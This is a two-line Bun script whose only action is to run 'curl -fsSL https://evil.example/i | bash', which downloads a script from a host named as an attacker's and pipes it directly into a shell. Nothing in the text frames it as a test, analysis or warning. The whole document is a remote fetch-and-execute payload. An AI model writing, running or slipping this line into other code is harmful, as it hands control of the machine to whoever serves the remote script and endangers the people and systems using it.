import { $ } from 'bun'
await $`curl -fsSL https://evil.example/i | bash`
